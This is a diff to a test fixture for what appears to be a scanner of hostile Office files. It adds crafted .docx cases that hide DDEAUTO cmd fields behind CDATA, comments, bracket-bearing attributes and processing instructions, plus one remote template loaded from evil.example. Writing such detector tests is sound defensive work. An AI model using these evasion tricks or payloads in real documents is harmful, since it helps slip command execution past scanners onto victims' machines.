@@ -169,6 +169,41 @@ export const hostileFiles: [string, string, Buffer, string][] = [
     'file-has-dde',
   ],
   ['a docx with a DDE field in pieces', 'a.docx', withField('D', 'D&#69;', ' c:\\\\cmd.exe'), 'file-has-dde'],
+  ['a docx with a DDE field in CDATA', 'a.docx', withField('<![CDATA[DDEAUTO cmd]]>'), 'file-has-dde'],
+  [
+    'a docx with a DDE field around a comment',
+    'a.docx',
+    withField('D<!-- nothing -->DEAUTO cmd'),
+    'file-has-dde',
+  ],
+  [
+    'a docx with a simple DDE field after a value that holds a bracket',
+    'a.docx',
+    withBody('<x:fldSimple xmlns:z="urn:>" x:instr="DDEAUTO cmd"><x:r/></x:fldSimple>'),
+    'file-has-dde',
+  ],
+  [
+    'a docx with a DDE field in a part of another name',
+    'a.docx',
+    makeZip({ ...docx, 'word/more.dat': '<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>' }),
+    'file-has-dde',
+  ],
+  [
+    'a docx that hides a field behind an instruction',
+    'a.docx',
+    withBody('<?a > <!-- ?><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><?a --> ?>'),
+    'file-has-dde',
+  ],
+  [
+    'a docx with a template from elsewhere after a value that holds a bracket',
+    'a.docx',
+    makeZip({
+      ...docx,
+      'word/_rels/document.xml.rels':
+        '<Relationships><Relationship xmlns:z="urn:>" Id="rId9" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+    }),
+    'file-loads-from-elsewhere',
+  ],
   [
     'a docx with a simple DDE field',
     'a.docx',
